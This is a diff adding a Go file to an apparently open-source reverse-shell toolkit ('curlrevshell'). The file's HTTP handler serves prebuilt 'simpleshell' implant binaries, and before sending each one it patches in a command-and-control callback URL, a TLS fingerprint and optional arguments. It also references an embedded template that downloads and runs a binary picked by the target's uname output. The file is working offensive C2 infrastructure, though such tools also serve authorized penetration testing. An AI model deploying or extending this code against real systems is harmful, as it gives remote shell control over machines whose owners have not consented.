@@ -0,0 +1,106 @@
+package hsrv
+
+/*
+ * binary.go
+ * Serve prebuilt simpleshells
+ * By J. Stuart McMurray
+ * Created 20261016
+ * Last Modified 20261016
+ */
+
+import (
+	"bytes"
+	_ "embed"
+	"errors"
+	"io/fs"
+	"net/http"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"time"
+
+	"github.com/magisterquis/curlrevshell/lib/simpleshell"
+)
+
+// Log messages and keys.
+const (
+	LMBinaryRequested = "Binary requested"
+
+	LKBinariesDir = "binaries_dir"
+	LKBinary      = "binary"
+	LKC2          = "c2"
+)
+
+const (
+	// BinarySuffix is added to CurlFormat when telling the user how to
+	// get a prebuilt binary.
+	BinarySuffix = "/b/NAME"
+
+	// ArgsParam is a URL parameter which may be set in requests to /b to
+	// set the served binary's arguments.  It is split with
+	// simpleshell.SplitArgs.
+	ArgsParam = "args"
+
+	// nameParam is the named value in the path for a binary's name.
+	nameParam = "name"
+)
+
+// BinaryTemplate is a callback template which downloads and runs a binary
+// from /b, named after uname -s and uname -m, e.g.
+// simpleshell-Linux-x86_64.
+//
+//go:embed binary.tmpl
+var BinaryTemplate string
+
+// binaryHandler serves a prebuilt binary from s.bdir, with the callback URL,
+// our TLS fingerprint, and maybe arguments patched in.
+func (s *Server) binaryHandler(w http.ResponseWriter, r *http.Request) {
+	name := r.PathValue(nameParam)
+	sl := s.requestLogger(r).With(LKBinariesDir, s.bdir, LKBinary, name)
+
+	/* Get hold of the binary. */
+	if !filepath.IsLocal(name) || strings.ContainsAny(name, `/\`) {
+		s.RErrorLogf(r, "Invalid binary name %q", name)
+		http.Error(w, "", http.StatusNotFound)
+		return
+	}
+	fn := filepath.Join(s.bdir, name)
+	b, err := os.ReadFile(fn)
+	if errors.Is(err, fs.ErrNotExist) {
+		s.RErrorLogf(r, "Binary %s not found", fn)
+		http.Error(w, "", http.StatusNotFound)
+		return
+	} else if nil != err {
+		s.RErrorLogf(r, "Error reading binary %s: %s", fn, err)
+		http.Error(w, "", http.StatusInternalServerError)
+		return
+	}
+
+	/* Patch in its config. */
+	c2, err := s.c2URL(r)
+	if nil != err {
+		s.RErrorLogf(r, "Could not determine callback URL: %s", err)
+		http.Error(w, "", http.StatusBadRequest)
+		return
+	}
+	conf := url.Values{
+		simpleshell.ConfigSlotC2:          {"https://" + c2 + "/io"},
+		simpleshell.ConfigSlotFingerprint: {s.l.Fingerprint},
+		simpleshell.ConfigSlotFraming:     {"1"}, /* We understand. */
+	}
+	if a := r.Form.Get(ArgsParam); "" != a {
+		conf.Set(simpleshell.ConfigSlotArgs, a)
+	}
+	if b, err = simpleshell.PatchConfigSlots(b, conf); nil != err {
+		s.RErrorLogf(r, "Error patching config into %s: %s", fn, err)
+		http.Error(w, "", http.StatusInternalServerError)
+		return
+	}
+
+	/* Send it back. */
+	sl.Info(LMBinaryRequested, LKC2, c2)
+	s.RLogf(FileColor, r, "Sent binary %s: URL:%s", name, c2)
+	w.Header().Set("Content-Type", "application/octet-stream")
+	http.ServeContent(w, r, name, time.Time{}, bytes.NewReader(b))
+}